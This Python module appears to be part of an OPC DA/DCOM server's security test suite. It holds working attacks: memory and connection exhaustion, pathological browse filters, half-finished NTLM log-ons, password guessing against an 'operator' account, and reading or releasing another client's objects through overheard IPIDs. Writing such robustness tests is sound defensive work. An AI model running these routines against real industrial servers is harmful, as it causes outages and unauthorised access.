"""What one hostile client with an account may try against the server and everybody else. Run one by one, in processes of
their own, by beside_attacks.py.

    attacks.py NAME ADDRESS SCALE [JSON]      SCALE: how much of it; JSON: what the attacker has spied out

What an attack prints is what it gained and should not have.
"""

import itertools
import json
import os
import struct
import sys
import time
import uuid
from contextlib import suppress

from impacket import ntlm
from impacket_session import (CACHE, CLASS_ID, DEVICE, FLAT, ICONNECTION_POINT, ICONNECTION_POINT_CONTAINER, IOPC_BROWSE,
                              IOPC_DATA_CALLBACK, IOPC_GROUP_STATE, IOPC_ITEM_MGT, IOPC_SERVER, IOPC_SYNC_IO, Writer,
                              dual_string)
from raw_rpc import (ACTIVATION, ACTIVATOR, ALTER_CONTEXT, BIND, OBJECT_EXPORTER, OBJECTS, REM_UNKNOWN, LoggedOn, Raw,
                     bind, contexts, requests, with_log_on)

USER, PASSWORD = 'mallory', 'open-sesame'
SOURCE = '127.0.0.66'  # another host than the good client's
IOPC_ITEM_IO = '85C0B427-2893-4CBC-BD78-E5FC5146F08F'
IENUM_ITEMS = '39C13A55-011E-11D0-9675-0020AFD8ADB3'
INTERFACES = [IOPC_SERVER, IOPC_BROWSE, IOPC_ITEM_IO, IOPC_ITEM_MGT, IOPC_SYNC_IO, IOPC_GROUP_STATE, REM_UNKNOWN,
              ICONNECTION_POINT_CONTAINER, ICONNECTION_POINT]
SERVER, BROWSE, ITEM_IO, ITEM_MGT, SYNC_IO, GROUP_STATE, REM, CONTAINER, POINT = range(len(INTERFACES))
ADD_GROUP, GROUP_BY_NAME, REMOVE_GROUP, ADD_ITEMS, CREATE_ENUMERATOR, READ, BROWSE_ITEMS = 3, 5, 7, 3, 9, 3, 5
REM_QUERY, REM_ADD_REF, REM_RELEASE = 3, 4, 5
FIND_POINT, ADVISE = 4, 5
COMPLEX_PING = 2
ITEM = 'North.Stack1.NOx'


def references(reply):
    """Object id and IPID of each interface that a reply hands out."""
    at = -1
    while (at := reply.find(b'MEOW\1\0\0\0', at + 1)) >= 0:
        yield struct.unpack_from('<Q', reply, at + 40)[0], uuid.UUID(bytes_le=reply[at + 48:at + 64])


def log_on(address, port, interfaces):
    return LoggedOn(address, port, interfaces, USER, PASSWORD, SOURCE)


def activate(address):
    """A server object: IPIDs of its interfaces IOPCServer, browsing and item I/O and of IRemUnknown, its object id."""
    connection = log_on(address, ACTIVATION, [ACTIVATOR])
    wanted = INTERFACES[:3]
    stub = Writer().guid(CLASS_ID).u32(0, 0, 3, 0, len(wanted), 0x20000, len(wanted))
    for iid in wanted:
        stub.guid(iid)
    reply = connection.call(0, bytes(stub.u16(1).u32(1).u16(7).data))
    connection.close()
    at = 28 + 2 * struct.unpack_from('<H', reply, 24)[0]  # behind the bindings
    at += -at % 4
    found = list(references(reply))
    if not found:
        raise PermissionError('the activation is refused')
    ipids = dict(enumerate(ipid for _, ipid in found))
    return {**ipids, REM: uuid.UUID(bytes_le=reply[at:at + 16])}, found[0][0]


class Attacker:
    """A log-on with a server object."""

    def __init__(self, address):
        self.ipids, self.oid = activate(address)
        self.connection = log_on(address, OBJECTS, INTERFACES)

    def call(self, interface, opnum, stub, ipid=None):
        return self.connection.call(opnum, bytes(stub.data), interface, ipid or self.ipids[interface])

    def try_call(self, *arguments):
        """The same where being refused is as good."""
        with suppress(OSError):
            return self.call(*arguments)

    def query(self, ipid, iids):
        """The IPIDs of those interfaces that an object has, by their ids."""
        request = Writer()
        request.data += ipid.bytes_le
        request.u32(5).u16(len(iids)).u32(len(iids))
        for iid in iids:
            request.guid(iid)
        reply = self.call(REM, REM_QUERY, request)
        return {iid: uuid.UUID(bytes_le=reply[at + 32:at + 48]) for iid, at in zip(iids, range(16, len(reply), 48))
                if not any(reply[at:at + 4])}

    def add_group(self, name='', interface=IOPC_ITEM_MGT):
        return self.call(SERVER, ADD_GROUP, group_request(name, interface))

    def group_with(self, count):
        """IPIDs of IOPCItemMgt and IOPCSyncIO of a group that holds one item so many times, its first handle."""
        made = list(references(self.add_group('many')))
        if not made:
            raise PermissionError('the group is refused')
        (_, items), = made
        (_, sync), = references(self.call(SERVER, GROUP_BY_NAME, Writer().string('many').guid(IOPC_SYNC_IO)))
        handle = 0
        while count > 0:
            part = min(count, 50_000)
            count -= part
            request = Writer().u32(part, part)
            request.data += struct.pack('<IIIIIIHH', 0, 0x20000, 1, 0, 0, 0, 0, 0) * part
            name = bytes(Writer().string(ITEM).data[32:])
            request.data += (name + bytes(-len(name) % 4)) * part
            reply = self.try_call(ITEM_MGT, ADD_ITEMS, request, items)
            if reply and struct.unpack_from('<I', reply, 8)[0]:
                handle = handle or struct.unpack_from('<I', reply, 16)[0]
        return items, sync, handle


def group_request(name, interface):
    return Writer().string(name).u32(1, 1000, 7, 0, 0, 0x409).guid(interface)


def filter(address, scale):
    """Browse filters that take long to hold against names."""
    attacker = Attacker(address)
    for pattern in ('*[' + '#$' * 10_000 + ']', '*[' + '#$' * 500_000 * scale + ']', '*a' * 10_000 + 'b',
                    '*' * 1_000_000 + 'b', '[' * 1_000_000, '?' * 1_000_000,
                    '*[!' + ''.join(map(chr, range(0x4E00, 0x9F00))) * 10 + ']x'):
        attacker.try_call(BROWSE, BROWSE_ITEMS, Writer().u16(FLAT).string(pattern).u16(0).u32(0))


def buffers(address, scale):
    """Calls whose work space is a hundred megabytes, on many server objects."""
    count = 1_900_000
    stub = Writer().u32(count, count)
    stub.data += bytes(4 * count)
    stub.u32(count)
    stub.data += bytes(4 * count)
    attackers = [Attacker(address) for _ in range(4 * scale)]
    for attacker in attackers:
        attacker.try_call(ITEM_IO, READ, stub)


def deaf(address, scale):
    """Large replies that nobody takes."""
    attackers = []
    for _ in range(8 * scale):
        with suppress(OSError, ValueError, TimeoutError):  # no more than the budget allows
            attacker = Attacker(address)
            attackers.append(attacker)
            _, sync, handle = attacker.group_with(1)
            stub = Writer().u16(CACHE).u32(1_100_000).handles([handle] * 1_100_000)
            attacker.connection.socket.settimeout(1)
            attacker.connection.send(requests(READ, bytes(stub.data), SYNC_IO, sync))
    time.sleep(1)


def enumerators(address, scale):
    """Enumerators, each with a copy of a large group."""
    attacker = Attacker(address)
    items, *_ = attacker.group_with(100_000 * scale)
    for _ in range(30 * scale):
        attacker.try_call(ITEM_MGT, CREATE_ENUMERATOR, Writer().guid(IENUM_ITEMS), items)


def names(address, scale):
    """Groups whose names are megabytes."""
    attacker = Attacker(address)
    for number in range(20 * scale):
        attacker.try_call(SERVER, ADD_GROUP, group_request(f'{number}' + 'n' * 7_000_000, IOPC_GROUP_STATE))


def groups(address, scale):
    """Groups without end, left behind all at once."""
    attacker = Attacker(address)
    call = requests(ADD_GROUP, bytes(group_request('', IOPC_GROUP_STATE).data), SERVER, attacker.ipids[SERVER])
    for _ in range(200 * scale):
        attacker.connection.send(call * 200)
        for _ in range(200):
            with suppress(OSError):
                attacker.connection.result()
    attacker.connection.close()


def advises(address, scale):
    """Sinks without end, in programs that are not there, on as many groups as there may be."""
    attacker = Attacker(address)
    for number in range(1000 * scale):
        reply = attacker.try_call(SERVER, ADD_GROUP, group_request('', ICONNECTION_POINT_CONTAINER))
        for _, container in references(reply or b''):
            found = attacker.call(CONTAINER, FIND_POINT, Writer().guid(IOPC_DATA_CALLBACK), container)
            sink = (struct.pack('<4sI', b'MEOW', 1) + bytes(16) + struct.pack('<IIQQ', 0, 5, number % 16, number)
                    + uuid.uuid4().bytes + dual_string([f'{SOURCE}[{1 + number % 5}]']))
            stub = bytes(Writer().u32(1, len(sink), len(sink)).bytes(sink).data)
            for _, point in references(found):
                attacker.connection.send(requests(ADVISE, stub, POINT, point) * 10)
                for _ in range(10):
                    attacker.connection.result()


def ping_sets(address, scale):
    """All ping sets that there are, and one with very many objects."""
    _, oid = activate(address)
    connections = [log_on(address, ACTIVATION, [OBJECT_EXPORTER])]
    connections.append(Raw(address, ACTIVATION, SOURCE).send(bind(OBJECT_EXPORTER)))
    connections[1].receive()
    small = ping(0, 1, [oid], [])
    for connection in connections:
        with suppress(OSError, StopIteration):
            for _ in range(50):
                connection.send(requests(COMPLEX_PING, small, 0, None) * 100)
                for _ in range(100):
                    connection.receive()
    many = [2 * number + 1 for number in range(60_000)]
    connection = log_on(address, ACTIVATION, [OBJECT_EXPORTER])
    for _ in range(scale):
        with suppress(OSError):
            made, = struct.unpack_from('<Q', connection.call(COMPLEX_PING, ping(0, 1, many, [])))
            connection.call(COMPLEX_PING, ping(made, 2, [], many[::-1]))


def ping(set_id, sequence, add, remove):
    stub = struct.pack('<QHHHH', set_id, sequence, len(add), len(remove), 0)
    for oids in (add, remove):
        if oids:
            stub += struct.pack('<II', 0x20000, len(oids))
            stub += bytes(-len(stub) % 8) + struct.pack(f'<{len(oids)}Q', *oids)
        else:
            stub += bytes(4)
    return stub


def idle(address, scale):
    """Connections that log on and then say nothing."""
    held = []
    for _ in range(511):
        with suppress(OSError, StopIteration):
            held.append(log_on(address, OBJECTS, INTERFACES[:1]))
    time.sleep(2 * scale)


def guessing(address, scale):
    """Passwords tried one after the other, on one connection as long as it is kept."""
    connection = None
    ends = time.monotonic() + 5 * scale
    for number in itertools.count():
        if time.monotonic() > ends:
            return
        try:
            connection = connection or Raw(address, OBJECTS, SOURCE)
            connection.socket.settimeout(1)  # it is held up for longer and longer
            connection.log_on(INTERFACES[:1], 'operator', f'guess-{number}')
        except (OSError, StopIteration):
            connection = None


def foreign(address, scale, ipids):
    """Objects of another client, whose identifiers were overheard."""
    attacker = Attacker(address)
    ipids = {name: uuid.UUID(bytes_le=bytes.fromhex(ipid)) for name, ipid in ipids.items()}
    reply = attacker.try_call(SYNC_IO, READ, Writer().u16(CACHE).u32(1).handles([1]), ipids['sync'])
    if reply and reply[-4:] != bytes.fromhex('05000780'):
        print('read through a group of another account')
    for opnum, counts in ((REM_ADD_REF, (5, 0)), (REM_RELEASE, (5, 0)), (REM_RELEASE, (1000, 1000))):
        for ipid in ipids.values():
            request = Writer().u16(1).u32(1)
            request.data += ipid.bytes_le + struct.pack('<II', *counts)
            attacker.try_call(REM, opnum, request)
    for ipid in ipids.values():
        attacker.try_call(SERVER, REMOVE_GROUP, Writer().u32(1, 1), ipid)


def half_log_ons(address, scale):
    """Log-ons begun and never ended."""
    first = ntlm.getNTLMSSPType1('', '').getData()
    held = []
    for _ in range(480):
        with suppress(OSError, StopIteration):
            connection = Raw(address, OBJECTS, SOURCE)
            held.append(connection)
            connection.send(with_log_on(BIND, contexts(REM_UNKNOWN), first) + b''.join(
                with_log_on(ALTER_CONTEXT, contexts(REM_UNKNOWN), first, context=context) for context in range(2, 64)))
    time.sleep(scale)


def device_reads(address, scale):
    """Device reads as fast as they go."""
    attacker = Attacker(address)
    _, sync, handle = attacker.group_with(1)
    call = requests(READ, bytes(Writer().u16(DEVICE).u32(1).handles([handle]).data), SYNC_IO, sync)
    ends = time.monotonic() + 3 * scale
    while time.monotonic() < ends:
        attacker.connection.send(call * 100)
        for _ in range(100):
            attacker.connection.result()


def main():
    os.nice(10)  # a client on another machine would not take the server's processor
    name, address, scale, *spied = sys.argv[1:]
    with suppress(ConnectionError):  # thrown out, as it may be
        globals()[name](address, int(scale), *map(json.loads, spied))


if __name__ == '__main__':
    main()
